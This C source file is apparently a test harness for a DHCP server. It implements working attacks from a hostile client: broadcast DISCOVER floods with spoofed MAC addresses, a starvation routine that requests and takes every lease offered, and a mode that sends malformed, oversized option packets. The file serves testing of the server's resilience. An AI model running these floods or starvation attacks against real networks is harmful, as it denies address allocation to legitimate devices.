/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* dhcp-attack INTERFACE ATTACK COUNT: what a hostile client may try at a DHCP server at the other end of a
 * cable. Prints how many addresses it was offered and given. Shares no code with the product.
 */

#include <arpa/inet.h>
#include <net/if.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

enum { DISCOVER = 1, OFFER = 2, REQUEST = 3, ACK = 5 };

#define HEAD_BYTES 240
#define MAX_BYTES  1472
#define ANSWER_MS  100

static int fd;
static unsigned n_offered, n_given;

static int
open_socket (const char *interface) {
  const struct sockaddr_in own = { .sin_family = AF_INET, .sin_port = htons (68) };
  const int on = 1;
  int opened = socket (AF_INET, SOCK_DGRAM, 0);

  if (opened < 0 || setsockopt (opened, SOL_SOCKET, SO_BROADCAST, &on, sizeof on) < 0
      || setsockopt (opened, SOL_SOCKET, SO_BINDTODEVICE, interface, (socklen_t) strlen (interface)) < 0
      || bind (opened, (const struct sockaddr *) &own, sizeof own) < 0) {
    perror (interface);
    exit (2);
  }
  return opened;
}

static void
send_message (const uint8_t *bytes, size_t n) {
  const struct sockaddr_in to = {
    .sin_family = AF_INET, .sin_port = htons (67), .sin_addr = { INADDR_BROADCAST },
  };

  (void) sendto (fd, bytes, n, 0, (const struct sockaddr *) &to, sizeof to);
}

/* The head of client number i, whose answer is to come by broadcast, and the type. Returns its length. */
static size_t
begin_message (uint8_t *bytes, const uint8_t prefix[3], unsigned i, unsigned type) {
  const uint8_t mac[6] = {
    prefix[0], prefix[1], prefix[2], (uint8_t) (i >> 16), (uint8_t) (i >> 8), (uint8_t) i,
  };
  const uint8_t end[] = { 0x63, 0x82, 0x53, 0x63, 53, 1, (uint8_t) type };

  memset (bytes, 0, MAX_BYTES);
  memcpy (bytes, "\1\1\6\0", 4);
  memcpy (bytes + 4, mac + 2, 4);
  bytes[10] = 0x80;
  memcpy (bytes + 28, mac, sizeof mac);
  memcpy (bytes + HEAD_BYTES - 4, end, sizeof end);
  return HEAD_BYTES - 4 + sizeof end;
}

/* Asks, and takes what it is offered. */
static void
take_address (const uint8_t prefix[3], unsigned i) {
  uint8_t bytes[MAX_BYTES], answer[MAX_BYTES];
  struct pollfd wait = { .fd = fd, .events = POLLIN };
  size_t n = begin_message (bytes, prefix, i, DISCOVER);

  bytes[n] = 255;
  send_message (bytes, n + 1);
  while (poll (&wait, 1, ANSWER_MS) > 0) {
    if (recv (fd, answer, sizeof answer, 0) < HEAD_BYTES + 3 || memcmp (answer + 28, bytes + 28, 6) != 0)
      continue;
    n_given += answer[HEAD_BYTES + 2] == ACK;
    if (answer[HEAD_BYTES + 2] != OFFER)
      return;
    n_offered++;
    n = begin_message (bytes, prefix, i, REQUEST);
    /* who it is, as every answer begins: option 53, then option 54 */
    memcpy (bytes + n, "\x36\4", 2);
    memcpy (bytes + n + 2, answer + HEAD_BYTES + 5, 4);
    memcpy (bytes + n + 6, "\x32\4", 2);
    memcpy (bytes + n + 8, answer + 16, 4);
    bytes[n + 12] = 255;
    send_message (bytes, n + 13);
  }
}

static const uint8_t anybody[3] = { 2, 0, 0 }, pi[3] = { 0xdc, 0xa6, 0x32 };

static void
discover (unsigned count, const uint8_t prefix[3]) {
  uint8_t bytes[MAX_BYTES];

  for (unsigned i = 0; i < count; i++) {
    size_t n = begin_message (bytes, prefix, i, DISCOVER);

    bytes[n] = 255;
    send_message (bytes, n + 1);
  }
}

static void
discover_as_anybody (unsigned count) {
  discover (count, anybody);
}

static void
discover_as_pis (unsigned count) {
  discover (count, pi);
}

static void
take_as_anybody (unsigned count) {
  for (unsigned i = 0; i < count; i++)
    take_address (anybody, i);
}

/* Options up to the last byte, cut ones, one that says that others follow elsewhere, and no end. */
static void
send_giants (unsigned count) {
  static const uint8_t codes[] = { 12, 43, 52, 55, 60, 61, 77, 82, 97, 124, 255, 0 };
  uint8_t bytes[MAX_BYTES];

  for (unsigned i = 0; i < count; i++) {
    size_t at = begin_message (bytes, pi, i, i % 2 == 0 ? DISCOVER : REQUEST);
    uint8_t code = codes[i % sizeof codes];

    for (; at + 2 < MAX_BYTES; at += 2 + bytes[at + 1]) {
      bytes[at] = code;
      bytes[at + 1] = (uint8_t) (255 - i / sizeof codes % 255);
      memset (bytes + at + 2, 52, MAX_BYTES - at - 2 < 255 ? MAX_BYTES - at - 2 : 255);
    }
    memset (bytes + 44, code, 192);
    send_message (bytes, i % 3 == 0 ? MAX_BYTES : HEAD_BYTES + i % (MAX_BYTES - HEAD_BYTES));
  }
}

static const struct {
  const char *name;
  void (*run) (unsigned count);
} attacks[] = {
  { "discover-as-anybody", discover_as_anybody }, { "discover-as-pis", discover_as_pis },
  { "take-as-anybody", take_as_anybody }, { "giants", send_giants },
};

int
main (int argc, char **argv) {
  if (argc != 4)
    return 2;
  fd = open_socket (argv[1]);
  for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
    if (strcmp (attacks[i].name, argv[2]) == 0) {
      attacks[i].run ((unsigned) atoi (argv[3]));
      printf ("offered %u given %u\n", n_offered, n_given);
      return 0;
    }
  return 2;
}
